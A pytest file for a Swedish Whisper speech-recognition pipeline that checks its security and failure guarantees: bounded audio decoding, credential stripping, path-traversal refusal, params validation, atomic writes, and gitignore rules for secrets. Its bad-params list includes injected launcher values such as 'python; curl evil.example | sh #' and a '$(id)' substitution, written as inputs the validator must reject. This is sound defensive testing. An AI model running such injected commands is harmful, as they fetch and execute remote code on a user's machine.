"""Hostile input and faults: what the README section "Failure behaviour and security" guarantees, one test each.

Bounded decoding, no credentials in a public card, a checkpoint mirror that never destroys another machine's
checkpoints, resume only with the same code, paths confined to the data, strict manifests and params, atomic
writes, secrets ignored by git.
"""

import json
import os
import subprocess
import sys
import threading
import time
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf

import app
from conftest import REPO, SAMPLE, run, sample_rows
from svwhisper.audio import SAMPLE_RATE, load_audio

# --- 1. audio that decodes to far more than it weighs ---

BIG_SECONDS, BIG_RATE, BIG_CHANNELS = 600, 192_000, 8


@pytest.fixture(scope="module")
def big_flac(tmp_path_factory) -> Path:
    """10 minutes of 8-channel 192 kHz FLAC (a tone in channel 0): ~28 MB on disk, 3.7 GB as float32."""
    path = tmp_path_factory.mktemp("big") / "big.flac"
    block = np.zeros((BIG_RATE, BIG_CHANNELS), dtype=np.int16)
    block[:, 0] = (3000 * np.sin(2 * np.pi * 440 * np.arange(BIG_RATE) / BIG_RATE)).astype(np.int16)
    with sf.SoundFile(path, "w", BIG_RATE, BIG_CHANNELS, subtype="PCM_16", format="FLAC") as out:
        for _ in range(BIG_SECONDS):
            out.write(block)
    return path


PEAK_SCRIPT = """
import json, resource, sys, time
import numpy as np
import app
from svwhisper import audio
limit, decoder, path = float(sys.argv[1]), sys.argv[2], sys.argv[3]
params = app.AppParams(max_duration_s=limit)
load = (lambda p: app.to_samples(p, params)) if decoder == "app" else (lambda p: audio.decode_with_ffmpeg(p, limit))
load(audio.__file__.replace("audio.py", "../data/sample/sv-SE/clips/" + sys.argv[4]))  # warm up every code path
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
start = time.monotonic()
try:
    samples, message = load(path), ""
except audio.AudioError as err:
    samples, message = np.zeros(0, np.float32), str(err)
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"extra_mb": (peak - before) / 1024, "n": len(samples), "message": message,
                  "seconds": time.monotonic() - start, "peak": float(np.abs(samples).max()) if len(samples) else 0.0}))
"""


def peak_of(path: Path, limit: float, decoder: str) -> dict:
    clip = sample_rows(1)[0][1]
    done = subprocess.run(
        [sys.executable, "-c", PEAK_SCRIPT, str(limit), decoder, str(path), clip],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.slow
@pytest.mark.parametrize("decoder", ["app", "ffmpeg"])
def test_ten_minutes_of_8_channel_192k_flac_decode_in_bounded_memory(big_flac, decoder):
    got = peak_of(big_flac, 3 * 3600, decoder)
    output_mb = BIG_SECONDS * SAMPLE_RATE * 4 / 1e6  # 38 MB of 16 kHz mono float32
    assert abs(got["n"] - BIG_SECONDS * SAMPLE_RATE) <= SAMPLE_RATE // 10, got
    assert 0.005 < got["peak"] < 0.2, got  # the tone in one of 8 channels, mixed down (libsndfile: mean, FFmpeg: 7.1)
    # a small multiple of the output plus a fixed margin; decoding it whole at 192 kHz x 8 would take 3.7 GB
    assert got["extra_mb"] < 4 * output_mb + 100, got


@pytest.mark.slow
@pytest.mark.parametrize("decoder", ["app", "ffmpeg"])
def test_a_recording_over_the_limit_is_refused_from_its_header_before_decoding(big_flac, decoder):
    got = peak_of(big_flac, 60, decoder)
    length = "10 min" if decoder == "app" else "600.0 s"
    assert got["n"] == 0 and length in got["message"] and "60 s" in got["message"], got
    assert got["extra_mb"] < 50, got


def test_a_header_that_understates_the_length_is_caught_by_the_running_cap(tmp_path, monkeypatch):
    from svwhisper import audio

    path = tmp_path / "long.wav"
    sf.write(path, np.full(SAMPLE_RATE * 5, 0.1, dtype=np.float32), SAMPLE_RATE)
    monkeypatch.setattr(
        audio, "header_info", lambda source, container: audio.AudioInfo(1.0, 1, SAMPLE_RATE)
    )  # lies: 1 s
    with pytest.raises(audio.AudioTooLong, match="more than the 2 s limit"):
        load_audio(path, max_duration_s=2)
    assert len(load_audio(path, max_duration_s=6)) == 5 * SAMPLE_RATE


def test_energy_framing_works_in_float32_blocks():
    from svwhisper.longform import frame_is_speech

    samples = np.random.default_rng(0).normal(0, 0.1, SAMPLE_RATE * 600).astype(np.float32)  # 10 min: 38 MB
    samples[: SAMPLE_RATE * 60] = 0  # a silent first minute
    tracemalloc.start()
    speech = frame_is_speech(samples)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < samples.nbytes / 4, f"{peak / 1e6:.0f} MB for {samples.nbytes / 1e6:.0f} MB of audio"
    assert not speech[:2999].any() and speech[3001:].all()


def test_the_page_keeps_each_requests_files_until_they_are_an_hour_old_and_cleans_gradios_cache(tmp_path):
    outputs = app.OutputDirs(tmp_path / "out", max_age_s=3600)
    result = app.Result(text="hej", segments=[app.Segment(0.0, 1.0, "hej")])
    first = app.page_outputs(result, outputs.new())
    second = app.page_outputs(result, outputs.new())
    assert Path(first[2]).is_file() and Path(second[2]).is_file()  # another request never removes a request's files
    assert Path(first[2]).parent != Path(second[2]).parent
    hour_ago = time.time() - 3601
    os.utime(Path(first[2]).parent, (hour_ago, hour_ago))
    third = app.page_outputs(result, outputs.new())
    assert not Path(first[2]).exists() and Path(second[2]).is_file() and Path(third[2]).is_file()
    outputs.close()
    assert not (tmp_path / "out").exists()
    demo = app.build_demo("models/final", app.AppParams())
    assert demo.delete_cache is not None and demo.delete_cache[1] <= 3600


# --- 2. credentials in the model card; --private on a public repo ---


@pytest.mark.parametrize(
    "origin, shown",
    [
        ("https://user:ghp_SECRET123@github.com/o/svwhisper.git", "https://github.com/o/svwhisper.git"),
        (
            "https://ghp_SECRET123@gitlab.com/o/svwhisper?private_token=ghp_SECRET123#x",
            "https://gitlab.com/o/svwhisper",
        ),
        ("git@github.com:o/svwhisper.git", "https://github.com/o/svwhisper.git"),
        ("ssh://git:ghp_SECRET123@host:2222/o/svwhisper.git", ""),
        ("/home/me/svwhisper", ""),
    ],
)
def test_the_card_never_shows_credentials_of_the_origin_url(origin, shown):
    from svwhisper.publish import public_url

    assert public_url(origin) == shown


def test_private_upload_to_an_existing_public_repo_is_refused(tmp_path, monkeypatch):
    import huggingface_hub

    from svwhisper import publish

    calls = []

    class PublicRepoHub:
        def __init__(self, token=None):
            pass

        def repo_exists(self, repo_id, repo_type="model"):
            return True

        def repo_info(self, repo_id, repo_type="model"):
            return type("Info", (), {"private": False})()

        def create_repo(self, *args, **kwargs):
            calls.append("create_repo")

        def upload_folder(self, *args, **kwargs):
            calls.append("upload_folder")

    monkeypatch.setattr(huggingface_hub, "HfApi", PublicRepoHub)
    with pytest.raises(publish.PublishError, match="exists and is public"):
        publish.upload(tmp_path, "someone/svwhisper-tiny", True, "msg", "token")
    assert calls == []


# --- 3. the checkpoint mirror ---


def checkpoint(run_dir: Path, step: int, complete: bool = True) -> Path:
    path = run_dir / f"checkpoint-{step}"
    path.mkdir(parents=True)
    (path / "model.safetensors").write_bytes(b"w" * step)
    if complete:
        (path / "COMPLETE").write_text(f"step {step}\n")
    return path


def local_store(tmp_path: Path, digest: str = "abc"):
    from dvc_objects.fs.local import LocalFileSystem

    from svwhisper.remote import CheckpointStore

    return CheckpointStore(LocalFileSystem(), str(tmp_path / "remote"), digest)


def test_the_mirror_never_deletes_remote_checkpoints_above_the_newest_local_step(tmp_path):
    from svwhisper.remote import CheckpointMirror, RemoteParams

    store = local_store(tmp_path)
    store.upload(checkpoint(tmp_path / "other-machine", 80))  # a newer checkpoint of the same run, elsewhere
    run_dir = tmp_path / "run"
    checkpoint(run_dir, 40)
    mirror = CheckpointMirror(tmp_path, RemoteParams(), run_dir, "abc", opener=lambda: store)
    mirror.on_save(None, type("State", (), {"is_world_process_zero": True})(), None)
    assert mirror.close(timeout=30)
    assert store.names() == {"checkpoint-40": True, "checkpoint-80": True}
    # what the Trainer then rotated away is removed; the newer one of the other machine stays
    checkpoint(run_dir, 60)
    (run_dir / "checkpoint-40/COMPLETE").unlink()
    (run_dir / "checkpoint-40/model.safetensors").unlink()
    (run_dir / "checkpoint-40").rmdir()
    mirror = CheckpointMirror(tmp_path, RemoteParams(), run_dir, "abc", opener=lambda: store)
    mirror.on_save(None, type("State", (), {"is_world_process_zero": True})(), None)
    assert mirror.close(timeout=30)
    assert store.names() == {"checkpoint-60": True, "checkpoint-80": True}


def test_a_fresh_machine_resumes_from_the_remote_before_step_0(tmp_path):
    from svwhisper.remote import resume_from_remote

    store = local_store(tmp_path)
    store.upload(checkpoint(tmp_path / "other-machine", 40))
    store.upload(checkpoint(tmp_path / "other-machine", 80))
    run_dir = tmp_path / "run"
    fetched = resume_from_remote(store, run_dir)
    assert fetched == run_dir / "checkpoint-80" and (fetched / "COMPLETE").is_file()
    assert not (run_dir / "checkpoint-40").exists()  # only the newest is needed
    assert resume_from_remote(store, run_dir) is None  # nothing newer than what is local


def test_any_exception_in_the_mirror_is_reported_once_and_close_has_a_timeout(tmp_path, capsys):
    from svwhisper.remote import CheckpointMirror, RemoteParams

    class AuthError(Exception):  # pydrive2's and oauth's errors are not OSError
        pass

    class Broken:
        run = "gdrive://x/checkpoints/abc"

        def names(self):
            raise AuthError("token expired")

    run_dir = tmp_path / "run"
    checkpoint(run_dir, 40)
    mirror = CheckpointMirror(tmp_path, RemoteParams(), run_dir, "abc", opener=Broken)
    state = type("State", (), {"is_world_process_zero": True})()
    for _ in range(3):
        mirror.on_save(None, state, None)
        time.sleep(0.2)
    assert mirror.close(timeout=30)
    out = capsys.readouterr().out
    assert out.count("AuthError: token expired") == 1, out

    release = threading.Event()

    class Hangs:
        run = "gdrive://x/checkpoints/abc"

        def names(self):
            release.wait(60)
            return {}

        def upload(self, checkpoint):
            pass

    mirror = CheckpointMirror(tmp_path, RemoteParams(), run_dir, "abc", opener=Hangs)
    mirror.on_save(None, state, None)
    start = time.monotonic()
    assert mirror.close(timeout=0.5) is False
    assert time.monotonic() - start < 5
    assert "did not finish" in capsys.readouterr().out
    release.set()


def test_pull_refuses_remote_file_names_that_leave_the_run_dir(tmp_path):
    from svwhisper.remote import RemoteError

    store = local_store(tmp_path)
    store.upload(checkpoint(tmp_path / "source", 40))
    real_find = store.fs.find
    escape = store.fs.join(store.run, "checkpoint-40", "..", "..", "..", "..", "escaped.txt")
    store.fs.find = lambda path: [*real_find(path), escape]
    with pytest.raises(RemoteError, match="escaped.txt"):
        store.download("checkpoint-40", tmp_path / "dest" / "run")
    assert not list(tmp_path.rglob("escaped.txt")) and not (tmp_path / "dest/run/checkpoint-40/COMPLETE").exists()


# --- 4. resume only with the same code and libraries ---


def test_the_run_fingerprint_covers_the_train_code_and_library_versions(tmp_path, monkeypatch):
    import shutil

    import transformers

    from svwhisper.checkpoints import run_fingerprint, stage_code

    repo = tmp_path / "repo"
    for part in ("stages", "svwhisper"):
        shutil.copytree(REPO / part, repo / part, ignore=shutil.ignore_patterns("__pycache__"))
    inputs = tmp_path / "features"
    inputs.mkdir()
    (inputs / "a").write_bytes(b"features")
    from svwhisper.params import TrainParams

    code = [p.relative_to(repo).as_posix() for p in stage_code(repo / "stages/train.py", repo)]
    assert {"stages/train.py", "svwhisper/checkpoints.py", "svwhisper/trainer.py", "svwhisper/data.py"} <= set(code)
    assert "svwhisper/longform.py" not in code  # the app's code is not the train stage's
    base = run_fingerprint(TrainParams(), [inputs], repo)
    assert base == run_fingerprint(TrainParams(), [inputs], repo)
    (repo / "svwhisper/longform.py").write_text("# changed\n", encoding="utf-8")
    assert base == run_fingerprint(TrainParams(), [inputs], repo)
    # the mirror's wording, timeouts and upload order cannot change the model: they do not start another run
    remote = repo / "svwhisper/remote.py"
    remote.write_text(remote.read_text(encoding="utf-8").replace("train:", "train (mirror):"), encoding="utf-8")
    assert base == run_fingerprint(TrainParams(), [inputs], repo)
    with (repo / "svwhisper/trainer.py").open("a", encoding="utf-8") as handle:
        handle.write("\n# a change to the training code\n")
    changed = run_fingerprint(TrainParams(), [inputs], repo)
    assert changed != base
    monkeypatch.setattr(transformers, "__version__", "0.0.0")
    assert run_fingerprint(TrainParams(), [inputs], repo) != changed


def test_every_stage_lists_exactly_the_code_it_imports_as_dvc_deps_the_operational_modules_aside():
    import yaml

    from svwhisper.checkpoints import OPERATIONAL, stage_code

    stages = yaml.safe_load((REPO / "dvc.yaml").read_text(encoding="utf-8"))["stages"]
    for name, stage in stages.items():
        deps = {dep for dep in stage["deps"] if dep.endswith(".py")}
        needed = {p.relative_to(REPO).as_posix() for p in stage_code(REPO / f"stages/{name}.py", REPO)}
        assert needed == deps, f"stage {name}: not listed {sorted(needed - deps)}, listed but not code {deps - needed}"
        assert not deps & set(OPERATIONAL)
    assert "svwhisper/remote.py" in {  # the train stage does import the mirror: it is left out on purpose
        p.relative_to(REPO).as_posix() for p in _imported_by(REPO / "stages/train.py")
    }


def _imported_by(path):
    import ast

    tree = ast.parse(path.read_text(encoding="utf-8"))
    modules = [n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module]
    return [REPO / f"{m.replace('.', '/')}.py" for m in modules if (REPO / f"{m.replace('.', '/')}.py").is_file()]


# --- 5. paths that leave the data ---


def test_clip_paths_outside_local_data_are_dropped_and_counted(tmp_path, monkeypatch):
    from svwhisper.params import PrepareParams, Sources
    from svwhisper.prepare import prepare_split
    from svwhisper.sources import Source

    monkeypatch.chdir(tmp_path)
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "secret.wav").write_bytes((SAMPLE / "clips" / sample_rows(1)[0][1]).read_bytes())
    data = tmp_path / "data"
    (data / "rec").mkdir(parents=True)
    rows = sample_rows(2)
    for _, clip, _ in rows:
        (data / "rec" / clip).write_bytes((SAMPLE / "clips" / clip).read_bytes())
    (data / "rec/link.mp3").symlink_to(outside / "secret.wav")
    lines = ["path\tsentence", *(f"rec/{clip}\t{sentence}" for _, clip, sentence in rows)]
    sentence = rows[0][2]
    escapes = ["../private/secret.wav", str(outside / "secret.wav"), "rec/link.mp3"]
    lines += [f"{path}\t{sentence}" for path in escapes]
    (data / "list.tsv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    source = Source(kind="manifest", path="data/list.tsv")
    params = PrepareParams(Sources((source,), (source,), (source,)), local_data="data", max_duration_s=30)
    meta, report = prepare_split([source], params, tmp_path / "out.parquet")
    assert len(meta) == 2 and report["dropped"]["outside_data"] == 3, report
    assert all("secret" in where or "link" in where for where in report["dropped_examples"]["outside_data"])


# --- 6. manifest parsing ---


def clips_and_bad(source):
    from svwhisper.sources import BadRow, iter_clips

    items = list(iter_clips(source))
    return [c for c in items if not isinstance(c, BadRow)], [c for c in items if isinstance(c, BadRow)]


def test_a_huge_sentence_is_one_bad_row_and_the_rows_after_it_are_read(tmp_path):
    from svwhisper.sources import Source

    body = ["path,sentence", "a.wav,Hej.", "b.wav," + "x" * 200_000, "c.wav,Hej då."]
    (tmp_path / "m.csv").write_text("\n".join(body) + "\n", encoding="utf-8")
    clips, bad = clips_and_bad(Source(kind="manifest", path=str(tmp_path / "m.csv")))
    assert [c.sentence for c in clips] == ["Hej.", "Hej då."]
    assert [b.where for b in bad] == [f"{tmp_path / 'm.csv'}:3"] and "field larger" in bad[0].reason_text


def test_an_unbalanced_quote_costs_one_row_not_the_rows_after_it(tmp_path):
    from svwhisper.sources import Source

    body = ["path,sentence", 'a.wav,"Hej, sa hon.', "b.wav,Två.", 'c.wav,"Tre, fyra."', "d.wav,Fem."]
    (tmp_path / "m.csv").write_text("\n".join(body) + "\n", encoding="utf-8")
    clips, bad = clips_and_bad(Source(kind="manifest", path=str(tmp_path / "m.csv")))
    assert [c.sentence for c in clips] == ["Två.", "Tre, fyra.", "Fem."]
    assert [b.where for b in bad] == [f"{tmp_path / 'm.csv'}:2"]


@pytest.mark.parametrize("char", ["\u2028", "\u0085", "\x0c", "\x0b", "\u2029", "\x00"])
def test_unicode_line_breaks_do_not_split_rows_and_are_flagged(tmp_path, char):
    from svwhisper.sources import Source

    body = f"path\tsentence\na.wav\tHej{char}där.\nb.wav\tTvå.\n"
    (tmp_path / "m.tsv").write_text(body, encoding="utf-8")
    clips, bad = clips_and_bad(Source(kind="manifest", path=str(tmp_path / "m.tsv")))
    assert [c.sentence for c in clips] == ["Två."]
    assert [(b.where, b.reason) for b in bad] == [(f"{tmp_path / 'm.tsv'}:2", "control_characters")]


def test_a_line_that_is_not_utf8_is_one_bad_row(tmp_path):
    from svwhisper.sources import Source

    (tmp_path / "m.tsv").write_bytes(b"path\tsentence\na.wav\tHej\nb.wav\tV\xe4lkommen\nc.wav\tTv\xc3\xa5\n")
    clips, bad = clips_and_bad(Source(kind="manifest", path=str(tmp_path / "m.tsv")))
    assert [c.sentence for c in clips] == ["Hej", "Två"]
    assert [b.where for b in bad] == [f"{tmp_path / 'm.tsv'}:3"] and "UTF-8" in bad[0].reason_text


def test_two_folder_sources_with_the_same_layout_keep_both_clips(tmp_path, monkeypatch):
    from svwhisper.params import PrepareParams, Sources
    from svwhisper.prepare import prepare_split
    from svwhisper.sources import Source

    monkeypatch.chdir(tmp_path)
    (_, clip, sentence), (_, clip2, sentence2) = sample_rows(2)
    for folder, (name, text) in (("a", (clip, sentence)), ("b", (clip2, sentence2))):
        (tmp_path / "data" / folder).mkdir(parents=True)
        (tmp_path / "data" / folder / "x.mp3").write_bytes((SAMPLE / "clips" / name).read_bytes())
        (tmp_path / "data" / folder / "x.txt").write_text(text, encoding="utf-8")
    sources = (Source(kind="folder", path="data/a"), Source(kind="folder", path="data/b"))
    params = PrepareParams(Sources(sources, sources, sources), local_data="data", max_duration_s=30)
    meta, report = prepare_split(sources, params, tmp_path / "out.parquet")
    assert list(meta["sentence"]) == [sentence, sentence2], report
    assert meta["id"].is_unique
    again, report = prepare_split([sources[0], sources[0]], params, tmp_path / "out2.parquet")
    assert len(again) == 1 and report["dropped"]["duplicate_clip"] == 1  # the same file twice is a duplicate


# --- 7. params that pass but make no sense ---

BAD_PARAMS = [
    ("train", "learning_rate: .nan", "learning_rate"),
    ("train", "learning_rate: .inf", "learning_rate"),
    ("train", "eval_batch_size: 0", "eval_batch_size"),
    ("train", "generation_max_length: 0", "generation_max_length"),
    ("train", "dropout: 1.5", "dropout"),
    ("train", "warmup_steps: -1", "warmup_steps"),
    ("train", "weight_decay: -0.1", "weight_decay"),
    ("train", "lr_scheduler: cosin", "lr_scheduler"),
    ("train", "mask_time_prob: 2", "mask_time_prob"),
    ("train", "launcher: 'python; curl evil.example | sh #'", "launcher"),
    ("train", "launcher: 'torchrun --nproc_per_node 4 $(id)'", "launcher"),
    ("model", "attention_heads: 0", "attention_heads"),
    ("model", "d_model: -8", "d_model"),
    ("app", "max_duration_s: .nan", "max_duration_s"),
    ("app", "port: 99999", "port"),
    ("evaluate", "batch_size: 0", "batch_size"),
    ("evaluate", "decoding: beam", "decoding"),
    ("remote", "check_timeout_s: 0", "check_timeout_s"),
    ("remote", "check_timeout_s: .inf", "check_timeout_s"),
    ("featurize", "num_proc: 0", "num_proc"),
    ("prepare", "min_duration_s: .nan", "min_duration_s"),
]


def block_classes() -> dict:
    from svwhisper.params import BLOCKS

    return BLOCKS


def params_with(tmp_path: Path, block: str, line: str) -> tuple[Path, int]:
    """The shipped params.yaml with `line` appended to `block` (replacing that key); (path, the line's number)."""
    lines = (REPO / "params.yaml").read_text(encoding="utf-8").splitlines()
    key = line.split(":")[0]
    start = next(i for i, text in enumerate(lines) if text.split("#")[0].rstrip() == f"{block}:")
    end = next((i for i in range(start + 1, len(lines)) if lines[i] and not lines[i].startswith((" ", "#"))), None)
    end = len(lines) if end is None else end
    kept = [i for i in range(len(lines)) if not (start < i < end and lines[i].strip().startswith(f"{key}:"))]
    lines = [lines[i] for i in kept]
    at = start + 1
    lines.insert(at, f"  {line}")
    path = tmp_path / "params.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path, at + 1


@pytest.mark.parametrize("block, line, key", BAD_PARAMS)
def test_params_that_make_no_sense_are_refused_with_file_line_and_key(tmp_path, monkeypatch, block, line, key):
    from svwhisper.paramfile import ParamsError, load_params

    monkeypatch.chdir(REPO)  # prepare checks its sources against local_data, relative to the repo
    path, number = params_with(tmp_path, block, line)
    with pytest.raises(ParamsError, match=rf"params\.yaml:{number}: {block}\.{key}"):
        load_params(block_classes()[block], block, path)


@pytest.mark.parametrize(
    "launcher",
    ["python", "python3", "torchrun --nproc_per_node 4", "torchrun --nproc_per_node=2 --nnodes 1", "accelerate launch"],
)
def test_allowed_launchers_load(tmp_path, launcher):
    from svwhisper.paramfile import load_params
    from svwhisper.params import TrainParams

    path, _ = params_with(tmp_path, "train", f"launcher: {launcher}")
    assert load_params(TrainParams, "train", path).launcher == launcher


def test_duplicate_yaml_keys_are_an_error_naming_both_lines(tmp_path):
    from svwhisper.paramfile import ParamsError, load_params
    from svwhisper.params import TrainParams

    path = tmp_path / "params.yaml"
    path.write_text("train:\n  max_steps: 10\n  learning_rate: 1e-4\n  max_steps: 20\n", encoding="utf-8")
    with pytest.raises(ParamsError, match=r"params\.yaml:4: train\.max_steps: duplicate key \(first at line 2\)"):
        load_params(TrainParams, "train", path)


def test_generation_that_cannot_fit_the_decoder_is_refused_before_the_stage_works(tmp_path):
    from svwhisper.paramfile import ParamsError
    from svwhisper.trainer import check_generation_fits

    path, number = params_with(tmp_path, "train", "generation_max_length: 500")
    with pytest.raises(ParamsError, match=rf"params\.yaml:{number}: train\.generation_max_length: 500 .* 448"):
        check_generation_fits(path, "train", "generation_max_length", 500, prompt=0, max_target_positions=448)
    check_generation_fits(path, "train", "generation_max_length", 448, prompt=0, max_target_positions=448)


# --- 8. atomic writes ---


def test_an_interrupted_write_leaves_the_old_file_and_no_partial_one(tmp_path, monkeypatch):
    from svwhisper import atomic

    target = tmp_path / "metrics.json"
    atomic.write_text_atomic(target, "old")
    monkeypatch.setattr(atomic.os, "replace", lambda *a: (_ for _ in ()).throw(OSError("disk full")))
    with pytest.raises(OSError, match="disk full"):
        atomic.write_text_atomic(target, "new")
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["metrics.json"]


def test_an_interrupted_model_save_leaves_no_half_model(tmp_path):
    from svwhisper import atomic

    out = tmp_path / "final"
    with pytest.raises(RuntimeError, match="killed"), atomic.atomic_dir(out) as tmp:
        (tmp / "config.json").write_text("{}")
        raise RuntimeError("killed")
    assert list(tmp_path.iterdir()) == []
    with atomic.atomic_dir(out) as tmp:
        (tmp / "config.json").write_text("{}")
    assert [p.name for p in out.iterdir()] == ["config.json"] and list(tmp_path.iterdir()) == [out]


def test_the_complete_marker_is_synced_and_waits_for_every_ranks_files(tmp_path, monkeypatch):
    from svwhisper import atomic
    from svwhisper.checkpoints import COMPLETE, MarkComplete

    synced = []
    real_fsync = os.fsync
    monkeypatch.setattr(atomic.os, "fsync", lambda fd: synced.append(fd) or real_fsync(fd))
    ckpt = tmp_path / "checkpoint-10"
    ckpt.mkdir()
    (ckpt / "rng_state_0.pth").write_bytes(b"r")
    args = type("Args", (), {"output_dir": str(tmp_path), "world_size": 2})()
    state = type("State", (), {"global_step": 10, "is_world_process_zero": True})()
    MarkComplete(tmp_path / "dvclive", wait_s=0.5).on_save(args, state, None)
    assert not (ckpt / COMPLETE).exists()  # rank 1's RNG state is not there: not complete
    (ckpt / "rng_state_1.pth").write_bytes(b"r")
    MarkComplete(tmp_path / "dvclive", wait_s=0.5).on_save(args, state, None)
    marker = json.loads((ckpt / COMPLETE).read_text())
    assert marker == {"step": 10, "files": {"rng_state_0.pth": 1, "rng_state_1.pth": 1}}
    assert len(synced) >= 4  # both files, the marker and the directories


def test_prepare_leaves_no_split_file_when_it_is_interrupted(tmp_path, monkeypatch):
    from svwhisper import prepare
    from svwhisper.params import PrepareParams, Source, Sources

    source = Source(kind="commonvoice", path=str(SAMPLE), tsv="train")
    params = PrepareParams(Sources((source,), (source,), (source,)), local_data=str(SAMPLE.parent))
    monkeypatch.setattr(prepare, "ROW_GROUP_SIZE", 4)
    calls = []

    def table(rows):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt  # preempted mid-split
        return real_table(rows)

    real_table = prepare._table
    monkeypatch.setattr(prepare, "_table", table)
    with pytest.raises(KeyboardInterrupt):
        prepare.prepare_split([source], params, tmp_path / "train.parquet")
    assert list(tmp_path.iterdir()) == []


def test_the_app_says_what_to_run_when_the_model_is_half_there(tmp_path):
    from svwhisper.backend import missing_model

    (tmp_path / "config.json").write_text("{}")
    problem = missing_model(tmp_path, "transformers")
    assert "incomplete" in problem and "model.safetensors" in problem and "dvc pull" in problem
    (tmp_path / "model.bin").write_bytes(b"x")
    assert "vocabulary" in missing_model(tmp_path, "ctranslate2")


# --- 9. secrets in git ---


def test_secret_file_names_are_ignored_by_git(tmp_path):
    probe = tmp_path / "probe"
    probe.mkdir()
    run(["git", "init", "-q"], probe)
    (probe / ".gitignore").write_text((REPO / ".gitignore").read_text())
    risky = ["key.json", "sa.json", "token.json", "deploy.key", ".env.local", ".env", "my-proj-1a2b3c4d5e6f.json"]
    risky += ["id_rsa", "id_rsa.pub", "id_ed25519", ".netrc", "cert.pfx", "cert.p12", "token.txt"]
    for name in risky:
        (probe / name).write_text("x")
    ignored = subprocess.run(["git", "check-ignore", *risky], cwd=probe, capture_output=True, text=True).stdout
    assert ignored.split() == risky
    fine = ["params.json", "metrics-abcdef.json", "data.key.txt"]
    for name in fine:
        (probe / name).write_text("x")
    assert subprocess.run(["git", "check-ignore", *fine], cwd=probe, capture_output=True, text=True).stdout == ""
